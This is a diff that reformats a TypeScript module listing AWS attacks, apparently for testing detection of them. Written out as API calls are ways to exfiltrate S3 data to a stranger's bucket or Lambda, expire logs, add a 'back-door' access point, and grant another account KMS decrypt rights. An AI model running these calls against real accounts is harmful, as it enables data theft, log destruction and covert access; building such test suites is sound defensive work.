@@ -1,6 +1,8 @@
 import type { Answer } from "./boto3";
 
-/** Calls AWS in one account as somebody who may do all of it there, with a client that is not ours. */
+/**
+ * Calls AWS in one account as somebody who may do all of it there, with a client that is not ours.
+ */
 export type Caller = (service: string, operation: string, parameters?: object) => Promise<Answer>;
 
 /** What is attacked. */
@@ -15,7 +17,10 @@ const STRANGERS_BUCKET = "bucket-of-somebody-else";
 
 type Attack = (call: Caller, target: Target) => Promise<unknown>;
 
-/** What can be put on a bucket, so that its objects go, are copied or shown, by the table's name for it. */
+/**
+ * What can be put on a bucket, so that its objects go, are copied or shown, by the table's name for
+ * it.
+ */
 export const BUCKET_ATTACKS = {
   "Lifecycle rule that expires the logs": (call, { bucket }) =>
     call("s3", "put_bucket_lifecycle_configuration", {
@@ -33,7 +38,10 @@ export const BUCKET_ATTACKS = {
         Role: `arn:aws:iam::${account}:role/replication`,
         Rules: [
           {
-            ...{ ID: "copies", Status: "Enabled", Priority: 1, Filter: { Prefix: "" } },
+            ID: "copies",
+            Status: "Enabled",
+            Priority: 1,
+            Filter: { Prefix: "" },
             DeleteMarkerReplication: { Status: "Disabled" },
             Destination: { Bucket: `arn:aws:s3:::${STRANGERS_BUCKET}` },
           },
@@ -46,7 +54,8 @@ export const BUCKET_ATTACKS = {
       NotificationConfiguration: {
         LambdaFunctionConfigurations: [
           {
-            ...{ Id: "listens", Events: ["s3:ObjectCreated:*"] },
+            Id: "listens",
+            Events: ["s3:ObjectCreated:*"],
             LambdaFunctionArn: `arn:aws:lambda:us-east-1:${STRANGER}:function:listens`,
           },
         ],
@@ -55,9 +64,12 @@ export const BUCKET_ATTACKS = {
     }),
   "Inventory to another bucket": (call, { bucket }) =>
     call("s3", "put_bucket_inventory_configuration", {
-      ...{ Bucket: bucket, Id: "lists" },
+      Bucket: bucket,
+      Id: "lists",
       InventoryConfiguration: {
-        ...{ Id: "lists", IsEnabled: true, IncludedObjectVersions: "All" },
+        Id: "lists",
+        IsEnabled: true,
+        IncludedObjectVersions: "All",
         Schedule: { Frequency: "Daily" },
         Destination: {
           S3BucketDestination: { Bucket: `arn:aws:s3:::${STRANGERS_BUCKET}`, Format: "CSV" },
@@ -66,7 +78,9 @@ export const BUCKET_ATTACKS = {
     }),
   "Access point": (call, { account, bucket }) =>
     call("s3control", "create_access_point", {
-      ...{ AccountId: account, Bucket: bucket, Name: "back-door" },
+      AccountId: account,
+      Bucket: bucket,
+      Name: "back-door",
     }),
   "CORS rule": (call, { bucket }) =>
     call("s3", "put_bucket_cors", {
@@ -83,7 +97,8 @@ export const BUCKET_ATTACKS = {
 /** A grant of the key to somebody of another account. */
 export function grantKey(call: Caller, keyArn: string): Promise<unknown> {
   return call("kms", "create_grant", {
-    ...{ KeyId: keyArn, GranteePrincipal: `arn:aws:iam::${STRANGER}:role/reads` },
+    KeyId: keyArn,
+    GranteePrincipal: `arn:aws:iam::${STRANGER}:role/reads`,
     Operations: ["Decrypt"],
   });
 }
